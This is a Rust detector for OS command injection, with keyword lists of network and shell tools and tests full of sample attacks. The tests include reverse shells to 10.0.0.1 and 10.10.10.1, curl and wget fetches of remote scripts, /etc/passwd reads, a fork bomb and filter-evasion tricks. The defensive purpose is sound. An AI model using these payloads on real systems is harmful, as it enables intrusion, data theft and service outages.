//! OS command injection by lexical analysis of Unix and Windows shell syntax. The value is
//! shell-normalised (quotes, escapes, `$IFS`, carets undone), split into commands at every
//! separator (`;`, `|`, `&`, newline, backticks, `$(...)`), and each command word is judged
//! with its arguments: `;whoami`, `|id`, `$(curl evil)` and `cat /etc/passwd` are commands;
//! "echo in the mirror" and "Tom & Jerry" are not.

use super::{Boundary, Match};
use crate::normalize::shell::normalize_shell;

/// Commands an attacker runs for their effect alone; in command position after a separator they
/// need no argument to count.
const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "lua",
    "nslookup",
    "telnet",
    "ssh",
    "tftp",
    "chmod",
    "chown",
    "passwd",
    "useradd",
    "usermod",
    "crontab",
    "nohup",
    "killall",
    "xxd",
    "systeminfo",
    "tasklist",
    "taskkill",
    "wmic",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "cscript",
    "wscript",
    "getent",
    "id",
    "printenv",
    "hostname",
    "socat",
    "xterm",
    "gcc",
    "mkfifo",
    "mknod",
    "dig",
    "sudo",
    "arp",
    "traceroute",
    "tracert",
    "nmap",
    "lsof",
    "shutdown",
    "reboot",
    "base64",
    "openssl",
    "busybox",
    "gawk",
    "phpinfo",
    "jrunscript",
    "scp",
    "rsync",
    "sftp",
    "wsl",
    "icacls",
    "cacls",
    "schtasks",
    "whois",
    "nproc",
    "lscpu",
    "uptime",
    "dmesg",
    "sysctl",
    "iptables",
    "modprobe",
    "insmod",
    "net",
    "iwr",
    "iwmi",
    "irm",
    "iex",
    "aptitude",
    "lastlog",
    "htop",
    "regedit",
    "bcdedit",
    "bcdboot",
    "vssadmin",
    "wevtutil",
    "netsh",
    "diskpart",
    "msiexec",
    "irb",
    "gdb",
    "c89",
    "c99",
    "rmt",
    "flock",
    "cpulimit",
    "visudo",
    "pkexec",
    "setsid",
    "bsdtar",
];

/// Administration and build tools whose names are not words: at the start of a value they are a
/// command line even without shell-looking arguments (`ansible all -m ping`, `chef-client`).
const TOOLS: &[&str] = &[
    "ansible",
    "ansible-config",
    "ansible-galaxy",
    "ansible-console",
    "ansible-doc",
    "ansible-inventory",
    "ansible-pull",
    "ansible-vault",
    "ansible-playbook",
    "chef-vault",
    "chef-shell",
    "chef-run",
    "chef-client",
    "chef-solo",
    "visudo",
    "cscli",
    "ssh-copy-id",
    "ssh-keygen",
    "cpulimit",
    "pip3",
    "pipx",
    "rmt-tar",
    "rmt-dump",
    "aa-disable",
    "aa-complain",
    "aa-teardown",
    "bsdtar",
];

/// Ordinary words that are also commands; they count only with shell-looking arguments.
const WEAK: &[&str] = &[
    "cat",
    "ls",
    "dir",
    "echo",
    "type",
    "more",
    "less",
    "head",
    "tail",
    "date",
    "sleep",
    "time",
    "set",
    "find",
    "grep",
    "egrep",
    "sort",
    "uniq",
    "wc",
    "touch",
    "cp",
    "mv",
    "mkdir",
    "kill",
    "ps",
    "who",
    "tee",
    "file",
    "stat",
    "du",
    "df",
    "export",
    "alias",
    "history",
    "which",
    "whereis",
    "locate",
    "printf",
    "expr",
    "test",
    "copy",
    "move",
    "del",
    "rm",
    "ping",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "gunzip",
    "unxz",
    "xz",
    "bzip2",
    "nl",
    "od",
    "strings",
    "rev",
    "cut",
    "tr",
    "diff",
    "cmp",
    "column",
    "fold",
    "fmt",
    "pr",
    "split",
    "tac",
    "base32",
    "chgrp",
    "ln",
    "dd",
    "vi",
    "vim",
    "nano",
    "ed",
    "view",
    "start",
    "call",
    "exit",
    "pwd",
    "cd",
    "chdir",
    "eval",
    "exec",
    "source",
    "unset",
    "declare",
    "readlink",
    "realpath",
    "basename",
    "dirname",
    "host",
    "mail",
    "sendmail",
    "look",
    "man",
    "info",
    "apt",
    "yum",
    "pip",
    "npm",
    "git",
    "make",
    "env",
    "id",
    "net",
    "ver",
    "vol",
    "w",
    "at",
    "su",
    "sh",
    "nice",
    "xargs",
    "watch",
    "screen",
    "tmux",
    "script",
    "service",
    "systemctl",
    "mount",
    "umount",
    "passwd",
    "perf",
    "ll",
    "ip",
    "trap",
    "pip",
];

/// Wrappers that run the command given as their argument.
const PREFIXES: &[&str] = &[
    "sudo", "doas", "nohup", "exec", "env", "time", "xargs", "busybox", "timeout", "strace",
    "ltrace", "command", "builtin", "call", "start", "cmd", "/c", "/k", "stdbuf", "unbuffer",
];

/// Classifies `input` (decoded); `None` when it does not read as a command injection.
pub fn is_command_injection(input: &str) -> Option<Match> {
    if input.len() < 2 {
        return None;
    }
    let found = judge(input);
    if found.is_some() || !input.contains("\\n") && !input.contains("\\r") {
        return found;
    }
    // A line break written as its escape (`;\n.shell nc ...`): whatever unescapes the value
    // (a JSON or C-string layer, `echo -e`, `printf`) hands the shell a new command line.
    let unescaped = input
        .replace("\\r\\n", "\n")
        .replace("\\n", "\n")
        .replace("\\r", "\n");
    judge(&unescaped).map(|m| Match {
        start: m.start.min(input.len()),
        end: m.end.min(input.len()),
        ..m
    })
}

fn judge(input: &str) -> Option<Match> {
    let shell = normalize_shell(input);
    let bytes = shell.as_bytes();
    let evidence = |s: usize, reason: &'static str| {
        // Offsets are in the normalised text; map to the input approximately (same start when
        // nothing before was removed), clamped.
        let start = s.min(input.len());
        Some(Match {
            reason,
            start,
            end: (start + 32).min(input.len()),
        })
    };
    // Command position: the start of the value, and after every separator.
    let mut at = 0;
    let mut after_separator = false;
    let mut substitution = false;
    loop {
        if let Some(reason) = command_at(&shell, at, after_separator, substitution) {
            return evidence(at, reason);
        }
        // Find the next separator.
        let Some((sep_end, is_substitution)) = next_separator(bytes, at) else {
            break;
        };
        at = sep_end;
        after_separator = true;
        substitution = is_substitution;
    }
    // A command word spelled with quotes, escapes or carets (`w'h'o'am'i`, `c\at`) is
    // obfuscated on purpose: no legitimate value does that to a command name.
    if let Some(pos) = obfuscated_command(input, &shell) {
        return evidence(pos, "obfuscated command word");
    }
    // Reverse shells and glob-obfuscated binaries anywhere.
    if shell.contains("/dev/tcp/") || shell.contains("/dev/udp/") {
        return evidence(
            shell.find("/dev/").unwrap_or(0),
            "reverse shell redirection",
        );
    }
    if let Some(pos) = glob_path(bytes) {
        return evidence(pos, "glob-obfuscated binary path");
    }
    if let Some(pos) = recursive_shell_function(&shell) {
        return evidence(pos, "shell function calling itself in a pipe (fork bomb)");
    }
    None
}

/// `:(){ :|:& };:`, `f(){ f|f& };f`: a shell function definition (`name() { ... }`, without
/// the `function` keyword of JavaScript) whose body pipes or backgrounds a call of itself.
fn recursive_shell_function(shell: &str) -> Option<usize> {
    let bytes = shell.as_bytes();
    let mut from = 0;
    while let Some(p) = shell[from..].find('(').map(|p| p + from) {
        from = p + 1;
        let mut j = p + 1;
        while bytes.get(j) == Some(&b' ') {
            j += 1;
        }
        if bytes.get(j) != Some(&b')') {
            continue;
        }
        j += 1;
        while bytes.get(j) == Some(&b' ') {
            j += 1;
        }
        if bytes.get(j) != Some(&b'{') {
            continue;
        }
        let name_end = shell[..p].trim_end().len();
        let name_start = shell[..name_end]
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ':' | '-')))
            .map_or(0, |i| i + 1);
        let name = &shell[name_start..name_end];
        if name.is_empty() || shell[..name_start].trim_end().ends_with("function") {
            continue;
        }
        let body_end = shell[j..].find('}').map_or(shell.len(), |e| j + e);
        let body = &shell[j + 1..body_end];
        let recursive = body.match_indices(name).any(|(k, _)| {
            let after = body[k + name.len()..].trim_start_matches("()").trim_start();
            after.starts_with(['|', '&'])
        });
        if recursive {
            return Some(name_start);
        }
    }
    None
}

/// Every command and wrapper name: the prefilter's literals (with no letter or digit on either
/// side). Without quotes, escapes or expansions the normalised text is the input lowercased, and
/// no command position can hold a command unless one of these words occurs.
///
/// Without any byte of [`SHELL_SYNTAX`] a value has one command position, its first word, and
/// there a command counts only as a tool name (even alone), a wrapper with a command after it,
/// or a command with a shell-looking argument: the boundaries say so.
pub(crate) fn gate_words() -> impl Iterator<Item = (&'static str, Boundary)> {
    STRONG
        .iter()
        .chain(WEAK)
        .chain(PREFIXES)
        .map(|w| (*w, Boundary::CommandWord))
        .chain(TOOLS.iter().map(|w| (*w, Boundary::Command)))
        .chain(
            ["alias", "shell", "system", "databases", "load"]
                .into_iter()
                .map(|w| (w, Boundary::ShellSyntax)),
        )
}

/// Bytes that make more than the first word a command position or change the words
/// themselves: separators, substitutions, redirections, grouping, quotes and escapes,
/// expansions, assignments (`a=b cmd`), paths (`/usr/bin/id`), globs. A value without them
/// (and ASCII) is judged on its first word alone (see [`gate_words`]).
pub(crate) const SHELL_SYNTAX: &[u8] = b";\n\r|&`$()<>{}'\"\\^/=*?[";

/// The whitespace `command_at` splits words on, as ASCII bytes (line breaks are separators).
fn word_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | 0x0b | 0x0c)
}

/// Whether `start` is where the first word of `bytes` (a value without shell syntax) begins.
pub(crate) fn at_first_word(bytes: &[u8], start: usize) -> bool {
    bytes[..start].iter().all(|&b| word_space(b))
}

/// Whether `bytes` (a value without shell syntax) has a second word.
pub(crate) fn has_second_word(bytes: &[u8]) -> bool {
    let Some(first) = bytes.iter().position(|&b| !word_space(b)) else {
        return false;
    };
    let rest = &bytes[first..];
    rest.iter()
        .position(|&b| word_space(b))
        .is_some_and(|gap| rest[gap..].iter().any(|&b| !word_space(b)))
}

/// Finds a known command word in the normalised text that does not appear literally in the
/// input (its letters were split by quotes, escapes, carets or empty expansions).
fn obfuscated_command(input: &str, shell: &str) -> Option<usize> {
    let brace_expansion = input.contains('{') && input.contains(',') && input.contains('}');
    // An empty substitution (`ping`` 1.2.3.4`, `pi$()ng`) has no purpose but to split or mark
    // a command word.
    let empty_substitution = ["``", "$()", "${}"].iter().any(|e| input.contains(e));
    if !brace_expansion && !empty_substitution && !input.contains(['\'', '"', '\\', '^', '$', '`'])
    {
        return None;
    }
    let lower = input.to_lowercase();
    shell
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'))
        .filter(|w| w.len() >= 2)
        .find(|w| {
            (STRONG.contains(&command_name(w)) || WEAK.contains(&command_name(w)))
                && (brace_expansion || empty_substitution || !contains_word(&lower, w))
        })
        .map(|_| 0)
}

fn contains_word(haystack: &str, word: &str) -> bool {
    haystack.match_indices(word).any(|(i, _)| {
        let before = haystack[..i]
            .chars()
            .next_back()
            .is_none_or(|c| !c.is_ascii_alphanumeric());
        let after = haystack[i + word.len()..]
            .chars()
            .next()
            .is_none_or(|c| !c.is_ascii_alphanumeric());
        before && after
    })
}

/// The end of the next separator at or after `from`, and whether it opens a substitution.
fn next_separator(bytes: &[u8], from: usize) -> Option<(usize, bool)> {
    let mut i = from;
    while i < bytes.len() {
        match bytes[i] {
            b';' | b'\n' | b'\r' => return Some((i + 1, false)),
            b'|' | b'&' => {
                let mut j = i + 1;
                while j < bytes.len() && matches!(bytes[j], b'|' | b'&') {
                    j += 1;
                }
                return Some((j, false));
            }
            b'`' => return Some((i + 1, true)),
            b'$' if bytes.get(i + 1) == Some(&b'(') => {
                let j = if bytes.get(i + 2) == Some(&b'(') {
                    i + 3
                } else {
                    i + 2
                };
                return Some((j, true));
            }
            b'<' | b'>' if bytes.get(i + 1) == Some(&b'(') => return Some((i + 2, true)),
            _ => i += 1,
        }
    }
    None
}

/// Judges the command starting at `at` (after whitespace, variable assignments and wrappers).
fn command_at(
    shell: &str,
    at: usize,
    after_separator: bool,
    substitution: bool,
) -> Option<&'static str> {
    let words: Vec<&str> = shell[at..]
        .split(['\n', ';', '|', '&', '`', ')', '}'])
        .next()
        .unwrap_or("")
        .split(|c: char| c.is_whitespace() || matches!(c, '(' | '{' | '<' | '>'))
        .filter(|w| !w.is_empty())
        // Assignments (`a=b cmd`) and variable expansions (`$a cmd`) before the command.
        .skip_while(|w| {
            (w.contains('=') && !w.starts_with(['=', '-'])) || (w.starts_with('$') && w.len() <= 3)
        })
        .take(5)
        .collect();
    // `$SHELL -c "..."`, `$a -nlvp 555`, `$c $a$b`: the command word comes from a variable.
    // (`}` does not end the command here: `${SHELL} -c`.)
    let raw: Vec<&str> = shell[at..]
        .split(['\n', ';', '|', '&', '`', ')'])
        .next()
        .unwrap_or("")
        .split_whitespace()
        .take(2)
        .collect();
    if let [var, arg] = raw[..]
        && var.starts_with('$')
        && var.len() > 1
        && var[1..]
            .trim_matches(['{', '}'])
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_')
        && ((arg.starts_with('-') && arg.len() > 1) || arg.matches('$').count() >= 2)
    {
        return Some("command taken from a variable");
    }
    let first = *words.first()?;
    // `|$u wget x`, `;$a cat f`: an (unset) variable expanded before the command word is
    // there only to split the command from its separator for a filter.
    if after_separator
        && let [var, next, ..] = raw[..]
        && var.starts_with('$')
        && (2..=3).contains(&var.len())
        && var[1..].bytes().all(|b| b.is_ascii_alphabetic())
        && (STRONG.contains(&command_name(next)) || WEAK.contains(&command_name(next)))
    {
        return Some("command after an empty variable");
    }
    // `alias ls-al='ls -al'`, `alias +m a=b`: a shell alias definition.
    if first == "alias"
        && words[1..]
            .iter()
            .find(|w| !w.starts_with(['+', '-']))
            .is_some_and(|w| w.contains('=') && !w.starts_with('='))
    {
        return Some("alias definition");
    }
    // `.shell`, `.system`: sqlite3 shell dot-commands after a statement (`. shell` with the
    // space the sqlite shell tolerates).
    let dot_command = matches!(first, ".shell" | ".system" | ".sh" | ".databases" | ".load")
        || (first == "."
            && matches!(words.get(1), Some(&("shell" | "system")))
            && words.get(2).is_some_and(|w| {
                STRONG.contains(&command_name(w)) || WEAK.contains(&command_name(w))
            }));
    if after_separator && dot_command {
        return Some("sqlite shell command");
    }
    if TOOLS.contains(&command_name(first)) {
        return Some(if after_separator {
            "command after a shell separator"
        } else {
            "command line"
        });
    }
    let known = |w: &str| STRONG.contains(&command_name(w)) || WEAK.contains(&command_name(w));
    // A wrapper (`nohup`, `time`, `sudo`, ...) followed by a command runs that command.
    let (word, args, wrapped) = match words.get(1) {
        Some(&next) if PREFIXES.contains(&first) && known(next) => (next, &words[2..], true),
        _ => (first, &words[1..], false),
    };
    let name = command_name(word);
    let strong = STRONG.contains(&name);
    let weak = WEAK.contains(&name);
    if !strong && !weak {
        return None;
    }
    if substitution {
        return Some("command substitution");
    }
    let first_arg = args.first().copied();
    let shell_argument = first_arg.is_some_and(is_shell_argument);
    let path_given = word.contains('/') || word.contains('\\');
    let alone = first_arg.is_none();
    if wrapped && (strong || shell_argument || alone) {
        return Some("command run through a wrapper");
    }
    if after_separator {
        // `;whoami`, `|id`, `& ping -n 5 127.0.0.1`, `;cat /etc/passwd`, `|ls`
        if (strong && (alone || shell_argument || !prose_like(args)))
            || (weak && (shell_argument || alone))
            || path_given
        {
            return Some("command after a shell separator");
        }
        return None;
    }
    // The value itself is a command line: the arguments must look like shell arguments.
    if shell_argument
        && (strong
            || path_given
            || first_arg.is_some_and(|a| a.starts_with('/') || a.starts_with('-') && a.len() > 1))
    {
        return Some("command line");
    }
    None
}

/// `/usr/bin/wget` → `wget`, `c:\windows\system32\cmd.exe` → `cmd`.
fn command_name(word: &str) -> &str {
    let base = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let base = base
        .strip_suffix(".exe")
        .or_else(|| base.strip_suffix(".com"))
        .or_else(|| base.strip_suffix(".bat"))
        .unwrap_or(base);
    // `python3.10`, `gcc10.1`: a versioned binary is the binary.
    let unversioned = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    if unversioned.len() >= 3
        && unversioned.len() < base.len()
        && base[unversioned.len()..].contains(|c: char| c.is_ascii_digit())
        && (STRONG.contains(&unversioned) || WEAK.contains(&unversioned))
    {
        return unversioned;
    }
    base
}

/// An argument only a shell user writes: a flag, an absolute or relative path, a variable, a
/// redirection, a glob, an address.
fn is_shell_argument(arg: &str) -> bool {
    let a = arg.trim_matches(|c| c == '"' || c == '\'');
    (a.starts_with('-')
        && a.len() > 1
        && a[1..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '-'))
        || a.starts_with('/')
        || a.starts_with("./")
        || a.starts_with("../")
        || a.starts_with('~')
        || a.starts_with('$')
        || a.starts_with('%')
        || a.contains(":\\")
        || a.starts_with('\\')
        || a.contains('*')
        || a.contains('?')
        || (a.contains('.')
            && a.split('.').count() >= 3
            && a.split('.').all(|p| !p.is_empty() && p.len() <= 63))
        || a.contains("://")
        || matches!(a, ">" | ">>" | "2>&1")
        || (a.len() > 1 && a.starts_with('/'))
}

/// Arguments that read like words of a sentence.
fn prose_like(words: &[&str]) -> bool {
    words.iter().all(|w| {
        let core = w.trim_end_matches([',', '.', '!', '?']);
        !core.is_empty() && core.chars().all(char::is_alphabetic)
    })
}

/// `/???/??t`, `/b?n/c*t`: a path made of glob characters standing for a binary.
fn glob_path(bytes: &[u8]) -> Option<usize> {
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'/' {
            let start = i;
            let mut j = i;
            let mut globs = 0;
            let mut slashes = 0;
            while j < bytes.len()
                && (bytes[j].is_ascii_alphanumeric()
                    || matches!(bytes[j], b'/' | b'?' | b'*' | b'[' | b']'))
            {
                if matches!(bytes[j], b'?' | b'*' | b'[') {
                    globs += 1;
                }
                if bytes[j] == b'/' {
                    slashes += 1;
                }
                j += 1;
            }
            let system_dir = [
                "/etc/", "/bin/", "/usr/", "/dev/", "/proc/", "/tmp/", "/var/", "/sbin/", "/root/",
                "/home/",
            ]
            .iter()
            .any(|d| bytes[start..j].starts_with(d.as_bytes()));
            if (globs >= 2 && slashes >= 2) || (system_dir && globs >= 1) {
                return Some(start);
            }
            i = j.max(i + 1);
        } else {
            i += 1;
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn detects_attacks() {
        for attack in [
            ";whoami",
            "| id",
            "127.0.0.1 && cat /etc/passwd",
            "$(curl http://evil/x.sh)",
            "`wget http://some_host/sh311.sh`",
            ";wget http://some_host/sh311.sh",
            "w'h'o'am'i",
            "cat$IFS/etc/passwd",
            ";getent$IFS$9hosts$IFS$9somehost.burpcollaborator.net;",
            "|getent hosts somehost.burpcollaborator.net.&",
            "| set /a 3482*7301",
            "cmd=127.0.0.1 && ls /etc",
            "pi$()ng 127.0.0.1",
            ";date --file secrets.txt",
            "/???/??t /???/p??s??",
            "& ping -n 5 127.0.0.1 &",
            "cat /etc/passwd",
            "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
            "||c^m^d /c whoami",
        ] {
            assert!(is_command_injection(attack).is_some(), "missed: {attack}");
        }
    }

    #[test]
    fn passes_benign() {
        for benign in [
            "echo in the mirror",
            "Tom & Jerry",
            "foo|bar",
            "Tea; cat lovers unite",
            "ping me tomorrow",
            "I would like to keep-alive my connection",
            "Q&A session at 5",
            "The quick brown fox jumped over the lazy dog",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
            "name=test&email=test@example.com",
        ] {
            assert!(
                is_command_injection(benign).is_none(),
                "false positive: {benign}: {:?}",
                is_command_injection(benign)
            );
        }
    }

    #[test]
    fn detects_tools_aliases_variables_and_fork_bombs() {
        for attack in [
            "ansible all -m ping",
            "chef-client -t 1.1.1.1",
            "time; visudo",
            "alias ls-al='ls -al'",
            "alias +m a=b",
            ":(){ :|:& };:",
            "f(){ f|f& };f",
            "myfunc(){ myfunc|myfunc& };myfunc",
            "$SHELL -c \"echo hi\"",
            "a=nc&&$a -nlvp 555",
            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
            "uname$u -a",
            "www.google.com;c$!at /et$!c/pas$!swd",
            ";gcc10.1 -o /tmp/x x.c",
            "echo | gcc7.4",
            "ping`` 127.0.0.1",
            "pi$()ng 127.0.0.1",
            ";iwr http://example.com/path/file.ps1",
            "perf --version",
            "1;.sh whoami",
        ] {
            assert!(is_command_injection(attack).is_some(), "missed: {attack}");
        }
    }

    #[test]
    fn tool_and_function_shapes_leave_prose_and_code_alone() {
        for benign in [
            "ping 127.0.0.1 is the loopback",
            "ping pong tables",
            "a flock of birds",
            "lastlog",
            "Chef report",
            "function f() { return f() & 1 }",
            "alias: John",
            "$a $b $c",
            "price is $5 -10%",
        ] {
            assert!(
                is_command_injection(benign).is_none(),
                "false positive: {benign}: {:?}",
                is_command_injection(benign)
            );
        }
    }

    #[test]
    fn escaped_line_breaks_empty_variables_and_braced_shells() {
        for attack in [
            ";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
            "\";\\n. shell nc 10.10.10.1 6666 -e sh\\n",
            ";\\n.databases",
            "|$u wget test",
            ";$a cat test.txt",
            "${SHELL} -c \"echo hi\"",
        ] {
            assert!(is_command_injection(attack).is_some(), "missed: {attack}");
        }
        for benign in [
            "line one\\nline two",
            "C:\\new\\reports",
            "price: $5 cat food",
            "a \\n. shell company",
            "${name} likes cats",
        ] {
            assert!(
                is_command_injection(benign).is_none(),
                "false positive: {benign}"
            );
        }
    }
}
